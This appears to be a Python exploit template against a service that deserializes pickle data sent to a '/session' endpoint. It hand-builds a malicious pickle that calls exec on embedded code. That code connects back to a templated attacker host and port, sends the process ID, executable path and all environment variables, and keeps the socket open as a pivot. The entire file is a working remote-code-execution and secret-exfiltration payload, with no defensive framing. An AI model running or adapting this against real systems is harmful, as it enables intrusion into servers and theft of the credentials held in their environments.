import http.client
CODE = """
import os, socket, threading, builtins
s = socket.create_connection(("$HOST", $PORT))
s.sendall(("HELLO pid=%d mode=pivot exe=%s\\n" % (os.getpid(), os.readlink("/proc/self/exe"))).encode())
s.sendall(("\\n".join(k + "=" + v for k, v in os.environ.items())).encode())
builtins._keep = s
threading.Thread(target=lambda: s.recv(64), daemon=True).start()
"""
code = "exec(%r, {})" % CODE
raw = code.encode()
body = b"cbuiltins\nexec\n(X" + len(raw).to_bytes(4, "little") + raw + b"tR."
c = http.client.HTTPConnection("$ADDR{store}", timeout=10)
c.request("POST", "/session", body)
c.getresponse().read()
c.close()
